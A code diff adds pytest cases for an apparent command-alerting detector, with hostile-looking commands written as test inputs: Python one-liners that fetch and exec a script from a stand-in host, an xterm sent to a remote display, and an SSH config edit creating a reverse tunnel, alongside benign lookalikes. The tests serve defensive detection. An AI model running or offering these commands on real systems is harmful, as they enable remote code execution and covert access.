@@ -44,3 +44,23 @@ def test_script_fetched_into_a_shell(command):
 ])
 def test_fetched_data_not_run(command):
     assert "remote_script_to_shell" not in alerts(command)
+
+
+@pytest.mark.parametrize("command, rule", [
+    ("python3 -c \"import urllib.request as u; exec(u.urlopen('https://x.example/a.py').read())\"",
+     "remote_script_to_shell"),
+    ("python3 -c \"import requests; exec(requests.get('https://x.example/a.py').text)\"", "remote_script_to_shell"),
+    ("xterm -display 10.0.0.1:1", "xterm_remote_display"),
+    ("printf 'Host x\\n RemoteForward 2222 localhost:22\\n' >> ~/.ssh/config", "ssh_reverse_tunnel"),
+])
+def test_detected(command, rule):
+    assert rule in alerts(command)
+
+
+@pytest.mark.parametrize("command", [
+    "python3 -c \"import urllib.request as u; print(u.urlopen('https://x.example/a.json').read())\"",
+    "xterm -display :0",
+    "printf 'Host x\\n  User git\\n' >> ~/.ssh/config",
+])
+def test_not_alerted(command):
+    assert alerts(command) == set()
